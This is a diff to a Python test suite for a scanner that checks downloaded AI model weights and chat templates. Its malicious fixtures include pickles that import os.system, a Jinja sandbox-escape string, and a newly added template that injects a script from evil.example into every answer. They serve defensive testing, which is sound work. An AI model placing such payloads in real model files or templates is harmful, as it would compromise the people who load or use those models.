@@ -93,6 +93,7 @@ def _tensor(offsets: list[int], shape: list[int]) -> dict[str, Any]:
 _ESCAPE = "().__class__.__base__.__subclasses__()"
 _INDEX = "model.safetensors.index.json"
 
+STRUCTURE = WeightScanPolicy(scanners=("structure",))
 MALICIOUS: dict[str, tuple[str, Build]] = {
     "pickle weights": ("format-not-allowed", _file("pytorch_model.bin", _pickle)),
     "pickle that imports os.system": ("pickle-import", _file("extra.pkl", _pickle)),
@@ -220,6 +221,10 @@ MALICIOUS: dict[str, tuple[str, Build]] = {
             "{% set ns.t = ns.t ~ ns.t %}{% endfor %}{{ ns.t }}"
         ),
     ),
+    "template that adds a script to every answer": (
+        "template-markup",
+        _template("{{ messages[0].content }}<script src='https://evil.example/x.js'></script>"),
+    ),
     "template in a list of templates": (
         "template-internals",
         _file(
@@ -339,6 +344,10 @@ def _demanding_template(directory: Path) -> None:
     )
 
 
+def _address_in_template(directory: Path) -> None:
+    benign(directory, template=CHAT + "{# https://docs.example #}\nSee https://docs.example\n")
+
+
 def _awkward_header_length(directory: Path) -> None:
     # A header of 0x380 bytes begins with the two bytes of a pickle of protocol 3.
     benign(directory)
@@ -359,6 +368,7 @@ BENIGN: dict[str, Callable[[Path], Any]] = {
     "quantized": _quantized,
     "GGUF with an old encoding in its license": _gguf,
     "template that refuses some conversations": _demanding_template,
+    "template that names an address": _address_in_template,
     "header length that looks like a pickle": _awkward_header_length,
     "configuration with Infinity": _state_space,
 }
@@ -378,7 +388,7 @@ def test_a_benign_model_passes(name: str, tmp_path: Path) -> None:
 
 def test_a_pickle_without_danger_passes_where_the_policy_takes_pickles(tmp_path: Path) -> None:
     policy = WeightScanPolicy(formats=(*DEFAULT_FORMATS, ".pkl"))
-    directory = benign(tmp_path / "model")
+    directory = benign(tmp_path / "model", template="")
     write(directory, "state.pkl", pickle.dumps({"step": 3, "rates": [0.1, 0.2]}))
     assert _gate(_scan(directory, policy), policy) is Decision.PASS
 
@@ -388,11 +398,11 @@ def test_a_pickle_without_danger_passes_where_the_policy_takes_pickles(tmp_path:
 
 
 def test_a_model_without_a_license_is_blocked_where_the_policy_asks_for_one(tmp_path: Path) -> None:
-    directory = benign(tmp_path / "model")
+    directory = benign(tmp_path / "model", template="")
     (directory / "LICENSE").unlink()
     (directory / "README.md").unlink()
-    strict = WeightScanPolicy(license_required=True)
-    assert _gate(_scan(directory)) is Decision.PASS
+    strict = WeightScanPolicy(scanners=("structure",), license_required=True)
+    assert _gate(_scan(directory, STRUCTURE), STRUCTURE) is Decision.PASS
     assert _gate(_scan(directory, strict), strict) is Decision.FAIL
 
 
@@ -400,7 +410,7 @@ def test_a_model_without_a_license_is_blocked_where_the_policy_asks_for_one(tmp_
 def test_a_directory_that_changed_after_it_was_fetched_is_blocked(
     change: str, tmp_path: Path
 ) -> None:
-    directory = benign(tmp_path / "model")
+    directory = benign(tmp_path / "model", template="")
     snapshot = read_snapshot(directory)
     if change == "link":
         (directory / "tokenizer.json").unlink()
@@ -409,10 +419,8 @@ def test_a_directory_that_changed_after_it_was_fetched_is_blocked(
         write(directory, "more.json", "{}")
     else:
         write(directory, "LICENSE", "")
-    evidence = scan_weights(
-        directory, snapshot, WeightScanPolicy(), log_directory=tmp_path / "logs"
-    )
-    assert _gate(evidence) is Decision.FAIL
+    evidence = scan_weights(directory, snapshot, STRUCTURE, log_directory=tmp_path / "logs")
+    assert _gate(evidence, STRUCTURE) is Decision.FAIL
 
 
 def test_a_scanner_that_breaks_is_failed_and_not_passed(
